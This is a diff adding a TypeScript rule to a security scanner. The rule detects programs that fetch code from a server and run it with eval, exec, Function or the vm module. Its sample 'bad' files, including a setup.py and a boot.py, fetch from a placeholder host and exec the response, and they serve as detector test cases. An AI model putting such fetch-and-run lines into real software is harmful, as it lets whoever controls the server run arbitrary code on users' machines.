@@ -1,0 +1,64 @@
+import type { FileCheck } from '../../check.ts';
+import type { SinkSpec } from '../../facts/flow/flow-facts.ts';
+
+const SCRIPT = ['javascript', 'typescript'] as const;
+const PYTHON = ['python'] as const;
+const CODE_SINKS: readonly SinkSpec[] = [
+  { kind: 'code', languages: SCRIPT, callee: 'eval', arguments: [0] },
+  { kind: 'code', languages: SCRIPT, callee: 'Function' },
+  { kind: 'code', languages: SCRIPT, callee: 'vm.runInThisContext', arguments: [0] },
+  { kind: 'code', languages: SCRIPT, callee: 'vm.runInNewContext', arguments: [0] },
+  { kind: 'code', languages: SCRIPT, callee: 'vm.Script', arguments: [0] },
+  { kind: 'code', languages: PYTHON, callee: 'exec', arguments: [0] },
+  { kind: 'code', languages: PYTHON, callee: 'eval', arguments: [0] },
+];
+
+export const check: FileCheck = {
+  id: 'rce-eval-of-remote-code',
+  title: 'Runs code that a server sends',
+  severity: 'critical',
+  kind: 'malice',
+  confidence: 'high',
+  since: '0.1.0',
+  cwe: [494],
+  why: `
+    The program asks a server and runs whatever comes back. What it does is decided elsewhere and can change after
+    everybody has looked: a review of this code says nothing about what it will do.`,
+  fix: 'Ship the code with the package. Where parts are loaded later, fix their version and check a signature or hash.',
+  blindSpots: 'An answer that is stored first and run by another program is reported as a dropped file instead.',
+  wants: { acts: ['remote-execution'], sinks: CODE_SINKS },
+  examples: {
+    bad: [
+      { 'setup.py': 'from urllib.request import urlopen\n«exec(urlopen("https://cdn.example.net/p").read())»\n' },
+      {
+        'boot.py': 'import requests\ncode = requests.get("https://cdn.example.net/p").text\n«exec(code)»\n',
+      },
+      {
+        'load.js': "const axios = require('axios');\naxios.get(url).then((res) => {\n  «eval(res.data)»;\n});\n",
+      },
+    ],
+    good: [
+      { 'calc.py': 'value = eval("1 + 1")\n' },
+      { 'show.js': "fetch('/api').then((answer) => answer.json()).then(render);\n" },
+      { 'match.js': 'const found = /a(b)/.exec(await (await fetch(url)).text());\n' },
+    ],
+  },
+
+  *find({ acts, flows, span }) {
+    const seen = new Set<number>();
+    for (const { start, end, message, confidence } of acts) {
+      seen.add(start);
+      yield { at: span(start, end), message, confidence };
+    }
+    for (const flow of flows) {
+      if (flow.source.kind !== 'response' || seen.has(flow.call.start)) continue;
+      seen.add(flow.call.start);
+      yield {
+        at: flow.call,
+        message: `${flow.callee} runs what a server answers.`,
+        trace: [{ at: flow.source.at, note: flow.source.what }, ...flow.steps],
+        confidence: flow.confidence,
+      };
+    }
+  },
+};
